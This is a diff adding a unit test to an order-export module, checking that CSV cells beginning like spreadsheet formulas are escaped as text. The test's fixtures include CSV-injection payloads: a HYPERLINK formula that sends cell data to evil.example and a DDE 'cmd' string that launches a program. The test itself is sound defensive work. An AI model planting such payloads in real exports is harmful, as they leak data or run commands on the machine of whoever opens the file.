@@ -232,3 +232,35 @@ describe('order export: prices', () => {
     expect(orderExportJson(x)).not.toMatch(/price|totals/i);
   });
 });
+
+describe('order export: formula-safe cells (OWASP CSV injection)', () => {
+  it('a customer, address or PO that starts like a formula is written as text; sizes stay numbers', () => {
+    const data = normalizeCabinetData(kitchen);
+    const hostile = {
+      ...job,
+      customer: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+      address: '@SUM(1+1)',
+      poNumber: '-2+3+cmd|" /C calc"!A0',
+      contractor: { ...job.contractor, company: '+Oak', name: '\tDana', phone: '\r555' },
+    };
+    const rows = parseOrderExportCsv(
+      orderExportCsv(buildOrderExport(computeDoorOrder(data), data.form, hostile)),
+    );
+    const first = rows[0]!;
+    expect(first.Customer).toBe(`'${hostile.customer}`);
+    expect(first['Job address']).toBe(`'${hostile.address}`);
+    expect(first['PO number']).toBe(`'${hostile.poNumber}`);
+    for (const r of rows) {
+      expect(Number(r['Width (in)'])).toBeGreaterThan(0);
+      expect(r.Qty).toMatch(/^\d+$/);
+    }
+    // A plain negative number written as text is a number, not a formula.
+    expect(
+      parseOrderExportCsv(
+        orderExportCsv(
+          buildOrderExport(computeDoorOrder(data), data.form, { ...job, poNumber: '-1187' }),
+        ),
+      )[0]!['PO number'],
+    ).toBe('-1187');
+  });
+});
